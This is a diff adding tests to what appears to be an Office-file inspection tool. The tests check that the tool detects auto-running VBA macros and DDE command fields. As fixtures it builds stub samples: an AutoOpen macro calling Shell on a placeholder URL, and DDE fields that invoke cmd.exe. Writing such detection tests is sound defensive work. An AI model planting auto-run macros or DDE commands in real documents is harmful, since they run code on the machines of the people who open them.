@@ -3,7 +3,12 @@
 from __future__ import annotations
 
 import io
+import struct
 import zipfile
+
+from tests.msgfile import compound
+from tests.observe.test_spreadsheets import supbook
+from tests.observe.test_vba import packed
 
 from gyotaku.observe.office import read_compound, read_package, read_rtf
 
@@ -60,3 +65,29 @@ def test_rich_text() -> None:
 def test_broken_compound_file() -> None:
     """A compound file that cannot be read says so."""
     assert read_compound(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(100)).traits == ("unreadable",)
+
+
+MODULE = packed(b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "http://x.example/p"\r\nEnd Sub')
+
+
+def test_macros_that_start_by_themselves() -> None:
+    """In a compound file and in the one inside a package the source is unpacked, and what starts by itself is named."""
+    old = read_compound(compound({"WordDocument": b"x" * 20, "Macros": {"VBA": {"ThisDocument": b"head" + MODULE, "dir": b"x"}}}))
+    assert old.traits == ("auto-run", "macro", "macro-calls")
+    assert (old.note, old.urls) == ("Word 97-2003; AutoOpen, shell", ("http://x.example/p",))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("xl/vbaProject.bin", compound({"VBA": {"Sheet1": MODULE}}))
+    new = read_package(out.getvalue())
+    assert (new.traits, new.note) == (("auto-run", "macro", "macro-calls"), "AutoOpen, shell")
+
+
+def test_commands_in_old_documents() -> None:
+    """A DDE field of Word 97-2003, in either width, and a DDE server of an old workbook; the word alone is none."""
+    field = '\x13 DDEAUTO c:\\\\cmd.exe "/c x" \x14'
+    for text in (field.encode("latin-1"), field.encode("utf-16-le")):
+        assert read_compound(compound({"WordDocument": bytes(40) + text})).traits == ("dde",)
+    assert read_compound(compound({"WordDocument": bytes(40) + b"\x13 PAGE \x14 about DDE in Office"})).traits == ()
+    assert read_compound(compound({"Workbook": supbook("cmd", "/c calc")})).traits == ("dde",)
+    sheet = struct.pack("<HH", 0x0809, 4) + bytes(4) + b"DDE \x13"
+    assert read_compound(compound({"Workbook": sheet})).traits == ()
